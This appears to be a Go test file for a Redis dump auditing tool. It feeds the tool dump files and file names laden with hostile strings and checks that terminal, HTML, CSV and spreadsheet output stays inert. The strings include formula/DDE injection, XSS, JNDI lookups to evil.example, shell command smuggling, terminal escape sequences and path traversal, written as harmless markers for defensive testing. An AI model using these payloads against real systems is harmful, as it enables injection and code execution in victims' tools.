package main

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"rdbaudit/aggregate"
	"rdbaudit/fixtures/wire"
)

// hostileNames are names that some reader of some output would act upon.
func hostileNames() []string {
	return []string{
		"", "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "\"=1+1", "a,=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1",
		"=HYPERLINK(\"http://evil.example\",\"x\")", "\uff1d1+1", "DDE(\"cmd\")",
		"<script>document.body.dataset.pwned=1;document.title='PWNED'</script>", "</script><script>document.title='PWNED'</script>",
		"<img src=x onerror=document.title='PWNED'>", "\"><svg onload=document.title='PWNED'>", "' onmouseover='document.title=1", "<!--", "-->", "]]>", "&lt;b&gt;", "&#60;", "{{.}}",
		"${jndi:ldap://evil.example/x}", "$(touch pwned)", "`touch pwned`", "%s%n%d", "; touch pwned;", "| touch pwned", "\\", "\\x41", "\\\\",
		"\x1b]0;PWNED\x07", "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b[?1049h", "\x1bc", "\x1bP+q544e\x1b\\", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cHduZWQ=\x07",
		"\u009b31m", "\u009d0;PWNED\u009c", "\u0090", "\x9b31m", "\x00", "a\x00b", "\x07\x08\x7f", "a\rb", "a\x0bb\x0c",
		"\u202egnp.exe", "\u202a\u202b\u202c\u202d", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c", "zero\u200bwidth\u200c\u200d\u2060\ufeff", "\u00ad", "\u034f", "\u115f\u3164\uffa0", "\u2028\u2029\u0085", "\U000e0041", "\ufff9\ufffb",
		"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "e\u0301\u0301\u0301\u0301",
		"**b** _i_ ~~s~~ `c`", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "| a | b |", "|", "# head", "* item", "1. item", "> quote", "---", "\\|", "http://evil.example", "<http://evil.example>", "@team", "#12",
		"name\"} 1\nrdbaudit_keys{x=\"", "\\\"", "# HELP rdbaudit_keys x", "label=\"x\"",
		"../../../../tmp/pwned", "/etc/passwd", "..\\..\\pwned", "C:\\pwned", "-o", "--help", "-",
		strings.Repeat("long", 3000), strings.Repeat("\u202e", 400), strings.Repeat("<b>", 500), strings.Repeat(":", 300),
	}
}

// hostileDump has every hostile name in every place that the file has for one:
// keys of all types, fields, members, elements, consumer groups and consumers,
// values, aux fields and their values, libraries of functions.
func hostileDump() []byte {
	b := []byte("REDIS0011")
	str := func(s string) { b = wire.AppendString(b, s) }
	num := func(list ...uint64) {
		for _, n := range list {
			b = wire.AppendLen(b, n)
		}
	}
	names := hostileNames()
	aux := func(name, value string) { b = append(b, 0xfa); str(name); str(value) }
	aux("redis-ver", "7.2.6<script>document.title='PWNED'</script>\x1b]0;PWNED\x07\u202e\n=1+1|`")
	aux("used-mem", "=1+1")
	aux("ctime", "1700000000")
	for _, n := range names {
		aux(n, n)
		b = append(b, 0xf5)
		str("#!lua name=" + n + "\nreturn 1")
	}
	b = append(b, 0xfe, 0)
	for i, n := range names {
		if i%3 == 0 {
			b = append(b, 0xfc, 0, 0, 0, 0, 0, 1, 0, 0) // 1978
		}
		b = append(b, 0)
		str(n)
		str(n)
		for typ, key := range map[int]string{1: "l:" + n, 2: n + ":set", 4: n + ":" + n} {
			if typ != 4 {
				b = append(b, byte(typ))
				str(key)
				num(1)
				str(n)
			}
		}
		b = append(b, 4)
		str("h:" + n)
		num(1)
		str(n)
		str("{\"" + n + "\":1}")
		b = append(b, 5)
		str("z:" + n)
		num(1)
		str(n)
		b = append(b, 0, 0, 0, 0, 0, 0, 0xf0, 0x3f)
		b = append(b, 21)
		str("x:" + n)
		num(0, 0, 1, 0, 0, 0, 0, 0, 1, 1)
		str(n) // group
		num(0, 0, 0, 0, 1)
		str(n) // consumer
		b = append(b, make([]byte, 16)...)
		num(0)
	}
	b = append(b, 0xff)
	return append(b, make([]byte, 8)...)
}

// hostileFiles puts the dump, and a damaged one, under hostile names, as far as
// the system has them.
func hostileFiles(t *testing.T) (paths []string) {
	inDir(t)
	require.NoError(t, os.Mkdir("dumps", 0o755))
	whole := hostileDump()
	for i, n := range []string{
		"\x1b]0;PWNED\x07", "=cmd|' C calc'!A0", "\u202egnp", "line\nrdbaudit: fake", "\u009b31m", "bad\xff\xfe", "<img src=x onerror=document.title='PWNED'>",
		"zw\u200b\u200f\u061c\ufeff", "q\"`|*_${HOME}&amp;\\", "-o", "a,b;c\td", "\r", strings.Repeat("n", 200),
	} {
		data := whole
		if i%2 == 1 {
			data = whole[:len(whole)*2/3]
		}
		path := filepath.Join("dumps", n+".rdb")
		if os.WriteFile(path, data, 0o644) == nil {
			paths = append(paths, path)
		}
	}
	require.NotEmpty(t, paths)
	return paths
}

var sgr = regexp.MustCompile("\x1b\\[[0-9;]*m")

// inert says what is in a text that a terminal or an eye would be led astray by:
// anything but visible characters, spaces, and the bytes that may end lines or part columns.
func inert(text, allowed string) string {
	for i, r := range text {
		switch {
		case strings.ContainsRune(allowed, r):
		case r == utf8.RuneError && !strings.HasPrefix(text[i:], "\ufffd"):
			return "a byte that is no UTF-8: " + around(text, i)
		case r < ' ', r >= 0x7f && r < 0xa0, r == 0x61c, r == 0xad, r >= 0x200b && r <= 0x200f, r >= 0x2028 && r <= 0x202e, r >= 0x2060 && r <= 0x206f, r == 0xfeff, r >= 0xfff9 && r <= 0xfffb, r >= 0xe0000 && r < 0xe0fff:
			return fmt.Sprintf("U+%04X: %s", r, around(text, i))
		}
	}
	return ""
}

func around(text string, i int) string {
	return strings.ToValidUTF8(text[max(0, i-30):min(len(text), i+30)], "?")
}

// TestHostileText: no output and no message has a byte in it that acts, wherever
// a hostile name comes from.
func TestHostileText(t *testing.T) {
	paths := hostileFiles(t)
	if raceEnabled {
		t.Skip("nothing here that other tests do not run under the race detector")
	}
	before := names(t, ".")
	check := func(args []string, r result) {
		t.Helper()
		require.Contains(t, []int{exitOK, exitDamaged, exitFailed}, r.status, "%v: %s", args, r.stderr)
		require.Empty(t, inert(r.stderr, "\n"), "stderr of %q", args)
		for line := range strings.Lines(r.stderr) {
			require.Regexp(t, `^rdbaudit: `, line, "a name has made a line of stderr: %q", args)
			require.NotRegexp(t, `^rdbaudit: fake`, line)
		}
		format := strings.Join(args, " ")
		if strings.Contains(format, "parquet") || strings.Contains(format, "list") {
			return
		}
		require.Empty(t, inert(sgr.ReplaceAllString(r.stdout, ""), "\n\t"), "stdout of %q", args)
	}
	for _, args := range append(append([][]string{}, oneOfEach...), []string{"report", "--color", "always"}, []string{"report", "--redact"}, []string{"keys", "--redact"}, []string{"report", "--no-findings", "--json-values", "full"}) {
		if args[0] != "key" {
			check(args, rdbaudit(on(args, "dumps")...))
			for _, path := range paths[:4] {
				check(args, rdbaudit(on(args, path)...))
			}
			check(args, rdbaudit(on(args, "dumps/gone\x1b]0;x\x07\u202e\n")...))
		}
	}
	for _, n := range hostileNames() {
		check([]string{"key"}, rdbaudit("key", paths[0], string(aggregate.AppendEscaped(nil, []byte(n)))))
		check([]string{"key"}, rdbaudit("key", "--raw", paths[0], "h:"+n))
		check([]string{"key"}, rdbaudit("key", "--raw", paths[0], "gone:"+n))
	}
	for _, format := range []string{"text", "json", "html", "md", "csv"} {
		args := []string{"diff", paths[0], paths[2], "--format", format}
		r := rdbaudit(args...)
		require.NotEmpty(t, r.stdout, "%v: %s", args, r.stderr)
		check(args, r)
		check(args, rdbaudit("diff", paths[0], paths[1], "--format", format))
		check(args, rdbaudit("diff", paths[0], "gone\x1b]0;x\x07\n"))
	}
	require.Equal(t, before, names(t, "."), "no file comes of a name")
}

// Arguments stand in messages too.
func TestHostileArguments(t *testing.T) {
	inDir(t, shop)
	write(t, "rules", []byte("pattern \x1b]0;x\x07 owner\nfail \u202e\x1b[m"))
	for _, n := range hostileNames() {
		if strings.ContainsRune(n, 0) {
			continue // no argument can have one
		}
		for _, args := range [][]string{
			{n}, {"--" + n}, {"report", n}, {"report", "--" + n, "x"}, {"report", "-o", n + "/x.csv", shop + ".rdb"}, {"report", "--fail-on", n, shop + ".rdb"}, {"keys", "--key", "(" + n, shop + ".rdb"},
			{"keys", "--db", n, shop + ".rdb"}, {"report", "--format", n + "x", shop + ".rdb"}, {"explain", n}, {"help", n}, {"report", "--config", n + "/gone", shop + ".rdb"}, {"report", "--info", n + "/gone", shop + ".rdb"},
			{"report", "--rules", "rules", shop + ".rdb"}, {"report", "--pattern", n, shop + ".rdb"}, {"report", "--target", n, shop + ".rdb"}, {"keys", "--in", n + ":*", "--type", n, shop + ".rdb"},
			{"whatif", "--sweep", n, shop + ".rdb"}, {"report", "--now", n, shop + ".rdb"}, {"keys", "--in", n + ":*", shop + ".rdb", "-o", "keys.csv"},
		} {
			r := rdbaudit(args...)
			require.Empty(t, inert(r.stderr, "\n"), "stderr of %q", args)
		}
	}
}

// TestHostileTerminal: in a terminal, with the bar and colours, nothing comes out but
// these: no title, no cursor beyond the bar's line, no other screen.
func TestHostileTerminal(t *testing.T) {
	script, err := exec.LookPath("script")
	if err != nil {
		t.Skip("no script command to make a terminal")
	}
	hostileFiles(t)
	own := regexp.MustCompile("\x1b\\[[0-9;]*m|\x1b\\[[02]?K|\r|\x00")
	for _, args := range []string{"report dumps", "keys --format table dumps", "verify --deep dumps", "verify --wire dumps", "whatif --target valkey-9.1 dumps", "keys dumps", "keys --format list dumps", "keys --format list -0 dumps", "report --progress bar dumps"} {
		cmd := exec.Command(script, "-qec", process().Path+" "+args, "/dev/null")
		cmd.Env = append(process().Env, "TERM=xterm-256color", "COLUMNS=100")
		out, _ := cmd.Output()
		if len(out) == 0 {
			t.Skip("script does not work as that of util-linux does")
		}
		require.Contains(t, string(out), "x0d", "%s: names are shown", args)
		require.Empty(t, inert(own.ReplaceAllString(string(out), ""), "\n\t"), args)
	}
}

// TestHostileBrowser: the page stays a page of text.
func TestHostileBrowser(t *testing.T) {
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("no chromium here: the page was not opened")
	}
	hostileFiles(t)
	r := rdbaudit("-q", "dumps", "-o", "html=page.html")
	require.Equal(t, exitDamaged, r.status)
	dir, err := os.Getwd()
	require.NoError(t, err)
	open := func(page string) (dom, title string) {
		cmd := exec.Command(chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-component-update", "--user-data-dir="+filepath.Join(dir, "profile"),
			"--virtual-time-budget=4000", "--dump-dom", "file://"+filepath.Join(dir, page))
		cmd.WaitDelay = time.Minute
		out, err := cmd.Output()
		if err != nil && len(out) == 0 {
			t.Skipf("chromium does not start here: %v", err)
		}
		_, title, _ = strings.Cut(string(out), "<title>")
		title, _, _ = strings.Cut(title, "</title>")
		return string(out), title
	}
	write(t, "bad.html", []byte("<title>x</title><img src=x onerror=document.title='PWNED'>"))
	_, title := open("bad.html")
	require.Equal(t, "PWNED", title, "this browser runs what a page without care holds")
	dom, title := open("page.html")
	require.NotEmpty(t, title)
	require.NotEqual(t, "PWNED", title, "a name has run")
	require.NotContains(t, dom, "data-pwned")
	require.Contains(t, dom, "document.title", "the names are there, as text")
	for _, tag := range []string{"<img", "<svg onload", "<iframe", "<script>document", "<b><b>"} {
		require.NotContains(t, dom, tag)
	}
}

// TestHostileSpreadsheet: LibreOffice takes nothing in our CSV for a formula, and
// shows every name as we wrote it.
func TestHostileSpreadsheet(t *testing.T) {
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("no soffice here (Debian: apt install --no-install-recommends libreoffice-calc): CSV was not opened in a spreadsheet")
	}
	hostileFiles(t)
	write(t, "careless.csv", []byte("key\n=1+1\n"))
	for _, table := range []string{"careless", "keys", "patterns", "largest", "findings"} {
		args := []string{"report", "-q", "--top", "500", "--depth", "9", "dumps", "-o", "csv:" + table + "=" + table + ".csv"}
		if table == "keys" {
			args = []string{"keys", "dumps", "-o", "keys.csv"}
		}
		if table != "careless" {
			require.Equal(t, exitDamaged, rdbaudit(args...).status)
		}
		dir, err := os.Getwd()
		require.NoError(t, err)
		cmd := exec.Command(office, "-env:UserInstallation=file://"+filepath.ToSlash(filepath.Join(dir, "office")), "--headless",
			"--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", "out", table+".csv")
		cmd.WaitDelay = 2 * time.Minute
		said, err := cmd.CombinedOutput()
		data, readErr := os.ReadFile(filepath.Join("out", table+".fods"))
		if readErr != nil {
			t.Skipf("soffice does not work here: %v %s", err, said)
		}
		if table == "careless" {
			require.Contains(t, string(data), "table:formula", "this spreadsheet takes what it can for a formula")
			continue
		}
		require.NotContains(t, string(data), "table:formula", "a formula in %s", table)
		require.NotContains(t, string(data), "xlink:href=\"http", "a link in %s", table)
		rows, err := csv.NewReader(strings.NewReader(read(t, table+".csv"))).ReadAll()
		require.NoError(t, err)
		cells := textCells(t, data)
		checked := 0
		for i, row := range rows {
			for j, field := range row {
				if field == "" || strings.Trim(field, "0123456789.,:-TZ%eE+") == "" || len(field) > 30_000 {
					continue // a number, a time
				}
				got := cells[i][j]
				require.Equal(t, strings.Join(strings.Fields(field), " "), strings.Join(strings.Fields(got), " "), "%s, row %d, column %d", table, i, j)
				checked++
			}
		}
		require.Greater(t, checked, 20, table)
	}
}

// textCells reads the texts of the cells of a flat OpenDocument sheet.
func textCells(t *testing.T, data []byte) map[int]map[int]string {
	all := make(map[int]map[int]string)
	d := xml.NewDecoder(bytes.NewReader(data))
	row, col, width := -1, 0, 1
	in := false
	for {
		tok, err := d.Token()
		if err == io.EOF {
			return all
		}
		require.NoError(t, err)
		switch tok := tok.(type) {
		case xml.StartElement:
			attr := func(name string) int {
				n := 1
				for _, a := range tok.Attr {
					if a.Name.Local == name {
						n = 0
						for _, c := range a.Value {
							n = n*10 + int(c-'0')
						}
					}
				}
				return n
			}
			switch tok.Name.Local {
			case "table-row":
				row, col = row+1, 0
				if n := attr("number-rows-repeated"); n > 1 && n < math.MaxInt32 {
					row += n - 1
				}
				all[row] = make(map[int]string)
			case "table-cell":
				in, width = true, attr("number-columns-repeated")
			case "s": // spaces
				if in {
					all[row][col] += strings.Repeat(" ", attr("c"))
				}
			}
		case xml.EndElement:
			if tok.Name.Local == "table-cell" {
				for k := 1; k < min(width, 64); k++ {
					all[row][col+k] = all[row][col]
				}
				in, col = false, col+width
			}
		case xml.CharData:
			if in {
				all[row][col] += string(tok)
			}
		}
	}
}
